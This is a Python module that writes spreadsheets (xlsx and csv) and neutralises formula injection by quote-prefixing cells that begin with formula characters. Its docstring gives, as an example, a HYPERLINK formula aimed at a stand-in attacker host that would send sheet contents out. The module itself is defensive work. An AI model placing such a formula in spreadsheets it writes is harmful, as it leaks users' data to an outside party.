"""Every spreadsheet Coso writes (xlsx and csv) goes through here, so that text stays text.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel
and LibreOffice as a formula (CSV on opening, xlsx when the cell is edited): a unit named
`=HYPERLINK("http://evil.example/?x="&B2,"…")` would leak the sheet or run a command. In xlsx
such a cell is stored as a string with Excel's "quote prefix" (the text itself is intact); in
CSV the value is prefixed with a single quote, the usual convention that Excel hides on display.
Numbers, dates and empty cells are written as they are; whole numbers get the number format
`#,##0`, so Excel and LibreOffice show them with the thousands separator of the reader's
locale (columns of years or codes are named in `plain`).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell, MergedCell
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from coso.core.numbers import XLSX_INTEGER

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INTEGER_FORMAT = XLSX_INTEGER


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_value(value: object) -> object:
    """`value` as it may go into a CSV cell: text that a spreadsheet would run gets a quote."""
    return "'" + value if isinstance(value, str) and looks_like_formula(value) else value


def protect_cell(cell: Cell | MergedCell) -> None:
    """Keep a text cell text, whatever openpyxl guessed from its first character."""
    if isinstance(cell, Cell) and looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def append_row(sheet: Worksheet, row: Sequence[object], plain: Iterable[int] = ()) -> None:
    """`sheet.append(row)`, with every text cell kept as text and every whole number (except in
    the columns `plain`: years, codes) shown grouped by thousands. The cells are made before the
    append (reading the row back after it costs a scan of the whole sheet per row: quadratic,
    seconds for a few thousand rows)."""
    values: list[Any] = []
    keep = set(plain)
    for index, value in enumerate(row):
        if isinstance(value, str) and looks_like_formula(value):
            cell = Cell(sheet, row=1, column=1, value=value)  # placed by the append
            protect_cell(cell)
            values.append(cell)
        elif isinstance(value, int) and not isinstance(value, bool) and index not in keep:
            cell = Cell(sheet, row=1, column=1, value=value)
            cell.number_format = INTEGER_FORMAT
            values.append(cell)
        else:
            values.append(value)
    sheet.append(values)


class SheetWriter:
    """A workbook written row by row, every text cell kept as text; `.bytes()` saves it."""

    def __init__(self, title: str) -> None:
        self.book = Workbook()
        sheet = self.book.active
        assert sheet is not None
        sheet.title = title
        self.sheet: Worksheet = sheet

    def add_sheet(self, title: str) -> Worksheet:
        self.sheet = self.book.create_sheet(title)
        return self.sheet

    def append(self, row: Sequence[object], plain: Iterable[int] = ()) -> None:
        """One row; whole numbers grouped by thousands except in the columns `plain`."""
        append_row(self.sheet, row, plain)

    def fit_columns(self, minimum: int = 10, maximum: int = 60) -> None:
        for index, column in enumerate(self.sheet.columns, start=1):
            width = max(len(str(c.value or "")) for c in column)
            letter = get_column_letter(index)
            self.sheet.column_dimensions[letter].width = min(max(width + 2, minimum), maximum)

    def bytes(self) -> bytes:
        out = io.BytesIO()
        self.book.save(out)
        return out.getvalue()


def xlsx_bytes(header: Sequence[object], rows: Iterable[Sequence[object]], title: str) -> bytes:
    """One sheet: a header row, then `rows`, columns sized to their text."""
    writer = SheetWriter(title)
    writer.append(header)
    for row in rows:
        writer.append(row)
    writer.fit_columns()
    return writer.bytes()


class CsvWriter:
    """`csv.writer` whose every text cell is made safe with `csv_value`."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **options: Any) -> CsvWriter:
    return CsvWriter(stream, **options)


__all__ = [
    "FORMULA_STARTS",
    "CsvWriter",
    "SheetWriter",
    "append_row",
    "csv_value",
    "csv_writer",
    "looks_like_formula",
    "protect_cell",
    "xlsx_bytes",
]
